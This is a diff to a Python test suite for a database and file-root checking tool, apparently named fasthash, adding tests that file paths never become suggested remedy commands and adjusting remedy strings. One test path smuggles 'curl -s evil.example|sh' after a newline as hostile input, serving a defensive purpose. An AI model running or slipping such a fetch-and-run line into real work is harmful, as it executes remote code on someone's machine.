@@ -235,6 +235,34 @@ def test_nested_roots() -> None:
     assert tomllib.loads(found[-1].remedy) == {"roots": ["/data", "/data2"]}
 
 
+def test_a_name_never_becomes_a_command() -> None:
+    path = "/data/loop\ncurl -s evil.example|sh\nz"
+    files = SampledFiles(1, {"unreadable": 1}, {"unreadable": (path, "ELOOP")})
+    found = worse(roots.judge([ROOT], files, WISHES))["roots.files.unreadable"]
+    assert path in found.text
+    assert found.remedy == ""
+    for odd in ("a\x1b[2J", "a\u202eb", "a\udcff", "a\x7f"):
+        assert Finding("roots.files", Level.NOTE, "", ("ls", odd)).remedy == ""
+
+
+@pytest.mark.parametrize(
+    ("path", "remedy"),
+    [
+        ("/var/a\U0001f600/f", 'roots = ["/var/a\U0001f600"]  # beside those there are'),
+        ("/data/link", ""),  # it leads out
+        ("/x", ""),
+        ("//x", ""),
+        ("../x", ""),
+    ],
+)
+def test_another_root_for_what_lies_outside(path: str, remedy: str) -> None:
+    files = SampledFiles(2, {"ok": 1, "outside_root": 1}, {"outside_root": (path, "")})
+    found = worse(roots.judge([ROOT], files, WISHES))["roots.files.outside_root"]
+    assert found.remedy == remedy
+    if remedy:
+        assert tomllib.loads(remedy)["roots"] == ["/var/a\U0001f600"]
+
+
 def test_settings_in_remedies_are_of_the_configuration() -> None:
     """Lines for fasthash.toml are TOML, with keys that there are."""
     from fasthash.cli import keys
@@ -265,8 +293,10 @@ def test_settings_in_remedies_are_of_the_configuration() -> None:
         ({"settings": {"synchronous_standby_names": "s"}, "sync_standbys": 1}, "standby",
          "note", ""),
         ({"sessions_hidden": 3}, "visibility", "note", "GRANT pg_read_all_stats TO me;"),
-        ({"held_back": (HeldBack("session 7", 601.0, "end it"),)}, "horizon", "warning", "end it"),
-        ({"held_back": (HeldBack("slot x", None, "drop it"),)}, "horizon", "warning", "drop it"),
+        ({"held_back": (HeldBack("session", 601.0, "it", "end it"),)}, "horizon", "warning",
+         "end it"),
+        ({"held_back": (HeldBack("slot x", None, "it", "drop it"),)}, "horizon", "warning",
+         "drop it"),
     ],
 )  # fmt: skip
 def test_servers(change: dict[str, Any], check: str, level: str, remedy: str) -> None:
@@ -278,12 +308,12 @@ def test_servers(change: dict[str, Any], check: str, level: str, remedy: str) ->
 
 def test_a_slow_answer_is_no_wrong_clock_and_a_young_transaction_no_old_one() -> None:
     server = replace(SERVER, clock_ahead_s=3.0, round_trip_s=2.5, settings={})
-    server = replace(server, held_back=(HeldBack("session 7", 599.0, "end it"),))
+    server = replace(server, held_back=(HeldBack("session 7", 599.0, "much", "end it"),))
     assert not worse(database.judge(replace(DATABASE, server=server)))
 
 
 @pytest.mark.parametrize(
-    ("version", "remedy"), [(0, "fasthash init"), (1, "fasthash init"), (3, "pip install")]
+    ("version", "remedy"), [(0, "fasthash init"), (1, "fasthash init"), (3, "")]
 )
 def test_ledgers(version: int, remedy: str) -> None:
     facts = replace(DATABASE, ledger=LedgerFacts(version, 2), rows=None)
@@ -417,7 +447,7 @@ def test_sql_is_broken_only_where_that_changes_nothing() -> None:
     sql = 'DROP INDEX CONCURRENTLY "public"."a  very  long name that has blanks in it";'
     again = f"-- afterwards: CREATE INDEX ON t ((m ->> 'a b  c')) {'WHERE x ' * 9};"
     shell = "mount -o remount,noatime /a/path/that/is/long/enough/for/two/lines"
-    finding = Finding("roots.files", Level.NOTE, "", f"{sql}\n{again}\n{shell}")
+    finding = Finding("roots.files", Level.NOTE, "", (sql, again, shell))
     lines = [line for line in as_text([finding], 40) if line.startswith(" " * 12)]
     assert f"            {shell}" in lines
     lines.remove(f"            {shell}")
